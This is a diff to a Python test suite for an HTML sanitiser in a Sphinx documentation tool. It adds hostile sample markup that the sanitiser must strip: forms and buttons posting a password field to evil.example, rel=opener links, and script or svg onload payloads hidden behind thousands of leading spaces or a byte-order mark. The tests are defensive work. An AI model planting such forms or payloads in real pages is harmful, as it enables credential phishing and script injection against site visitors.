@@ -9,6 +9,7 @@ the reader.
 
 from __future__ import annotations
 
+import codecs
 import json
 import re
 from collections.abc import Iterator
@@ -97,6 +98,13 @@ def independent_findings(text: str, inline: set[str] = POLICY.inline) -> list[st
         ('<base href="https://evil.example/">', "<base>"),
         ('<meta http-equiv="refresh" content="0; url=https://evil.example">', "http-equiv"),
         ('<div style="color:red" onmouseover="alert(1)">x</div>', "onmouseover"),
+        # A page asking for a password for another site; a tab the opened site controls
+        # (a red team's findings: a contributed static page).
+        ('<form action="https://evil.example/s"><input type="password"></form>', "another site"),
+        ('<form action="//evil.example/s"><input></form>', "form that sends to another site"),
+        ('<form action=" \\\\evil.example/s"><input></form>', "form that sends to another"),
+        ('<button formaction="https://evil.example/">x</button>', "another site (formaction)"),
+        ('<a href="https://example.org/" target="_blank" rel="opener">x</a>', "rel=opener"),
         # Read as text by Python's own parser, as markup by a browser (found by testing
         # as an attacker: sphinx-design's octicon role writes its class unescaped).
         ('<svg><style><img src="x" onerror="alert(1)"></style></svg>', "onerror"),
@@ -138,6 +146,7 @@ def test_unsafe_markup_is_taken_out(hostile: str, what: str) -> None:
         "<script>document.body.dataset.theme = 1;</script>",
         '<svg aria-hidden="true"><use href="#icon"></use></svg>',
         '<form action="search.html" method="get"><input name="q"></form>',
+        '<a href="https://example.org/" target="_blank" rel="noopener noreferrer">x</a>',
     ],
 )
 def test_what_the_theme_and_content_need_is_kept(safe: str) -> None:
@@ -615,3 +624,20 @@ def test_a_language_variant_linked_outside_is_not_published(
         p for p in (tmp_path / "out").rglob("*") if p.is_file() and b"hunter2" in p.read_bytes()
     ]
     assert any(said in w and "outside the source folder" in w for w in warnings), warnings
+
+
+@pytest.mark.parametrize(
+    ("data", "markup"),
+    [
+        (b" " * 1100 + b"<html><script>alert(1)</script>", True),  # a red team's finding
+        (b"\n\t" * 5000 + b"<svg onload=alert(1)>", True),
+        (codecs.BOM_UTF8 + b" " * 2000 + b"<html>", True),
+        (b"plain text, then <b>", False),
+        (b"\x85<html>", False),  # not a space to a browser: read as text
+    ],
+    ids=["1100-spaces", "10000-spaces", "bom", "text", "nel"],
+)
+def test_a_file_is_read_as_markup_whatever_the_spaces_before_it(data: bytes, markup: bool) -> None:
+    from sphinx_partners.safety.published import _starts_like_markup
+
+    assert _starts_like_markup(data) is markup
